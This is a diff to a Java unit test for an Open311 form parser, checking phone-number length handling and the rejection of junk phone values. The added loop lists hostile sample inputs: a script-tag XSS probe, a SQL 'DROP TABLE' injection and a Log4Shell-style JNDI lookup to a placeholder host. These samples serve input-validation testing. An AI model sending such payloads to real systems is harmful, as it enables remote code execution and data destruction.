@@ -124,7 +124,12 @@ class Open311Test {
         });
         assertEquals(null, Open311Form.parse(form("phone", " ", "lat", "37.8468", "long", "113.5731")).phone());
         assertEquals(org.linli.core.format.Phone.MAX_GIVEN,
-                Open311Form.parse(form("phone", "9".repeat(60) + "x", "lat", "37.8468", "long", "113.5731")).phone().length());
+                Open311Form.parse(form("phone", "0351 1234567" + " ".repeat(40) + "转 8", "lat", "37.8468", "long", "113.5731")).phone().length());
+        // What is no phone in any writing is not contact data: refused like any bad field.
+        for (String junk : List.of("<script>alert(1)</script>", "1; DROP TABLE users", "999", "1e400", "😀", "${jndi:ldap://evil/a}")) {
+            ValidationFailed bad = assertThrows(ValidationFailed.class, () -> Open311Form.parse(form("phone", junk, "lat", "37.8", "long", "113.5")), junk);
+            assertEquals("phone", bad.fields().get(0).field());
+        }
     }
 
     @Test
